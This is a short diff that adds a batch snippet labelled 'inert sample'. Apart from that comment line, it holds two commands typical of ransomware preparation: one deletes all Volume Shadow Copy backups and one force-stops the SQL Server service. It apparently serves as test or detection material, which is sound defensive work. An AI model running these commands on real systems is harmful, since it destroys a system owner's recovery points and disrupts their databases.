@@ -1,0 +1,3 @@
+rem inert sample
+wmic shadowcopy delete
+net stop MSSQLSERVER /y
